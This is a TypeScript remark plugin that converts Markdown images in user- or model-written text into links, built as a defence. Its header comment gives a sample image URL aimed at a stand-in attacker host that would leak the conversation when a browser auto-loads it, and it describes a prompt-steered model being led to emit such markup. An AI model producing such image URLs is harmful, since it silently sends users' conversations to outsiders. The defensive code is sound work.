import type { Nodes, Parent, Root, Text } from "mdast";

// A remark plugin for Markdown that users or models wrote: images become links. A reply is
// written by a model that a prompt can steer, and a browser fetches an image as soon as it is
// shown, so `![x](https://evil.example/leak?<the conversation>)` would send the conversation away
// with nobody clicking. As a link (its alt text, else its URL) the reader decides. Inside a link,
// where a second link cannot go, an image becomes its text.

const text = (value: string): Text => ({ type: "text", value });

function rewrite(parent: Parent, inLink: boolean): void {
  parent.children = parent.children.map((child: Nodes): Nodes => {
    if (child.type === "image") {
      const label = text(child.alt || child.url);
      return inLink ? label : { type: "link", url: child.url, title: child.title, children: [label] };
    }
    if (child.type === "imageReference") {
      const label = text(child.alt || child.label || child.identifier);
      if (inLink) return label;
      const { identifier, label: refLabel, referenceType } = child;
      return { type: "linkReference", identifier, label: refLabel, referenceType, children: [label] };
    }
    if ("children" in child)
      rewrite(child, inLink || child.type === "link" || child.type === "linkReference");
    return child;
  }) as Parent["children"];
}

export function remarkImagesAsLinks() {
  return (tree: Root) => rewrite(tree, false);
}
